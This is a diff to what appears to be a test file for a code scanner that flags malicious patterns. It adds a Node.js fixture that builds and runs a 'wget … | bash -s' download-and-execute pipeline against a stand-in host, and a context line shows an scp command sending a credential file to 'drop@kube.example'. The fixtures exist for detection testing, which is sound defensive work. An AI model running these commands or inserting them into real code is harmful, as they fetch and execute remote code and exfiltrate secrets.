@@ -142,6 +142,17 @@ os.execvp("scp", ["scp", "-q", "/tmp/kc", "drop@kube.example:/in/"])
 `,
     /^cap-exfiltration$/,
   ],
+  [
+    // a promisified exec behind an arrow wrapper; the pipeline is whole only with the arguments
+    'w11.mjs',
+    `import { promisify } from 'node:util';
+import { exec as execCb } from 'node:child_process';
+const run = promisify(execCb);
+const boot = (get, from, into) => run(\`\${get} \${from} | \${into}\`);
+await boot('wget -qO-', 'https://boot.example.com/x', 'bash -s');
+`,
+    /^bash-download-exec$/,
+  ],
 ];
 
 /** [file name, code, a rule that must be among the findings] — at least review */
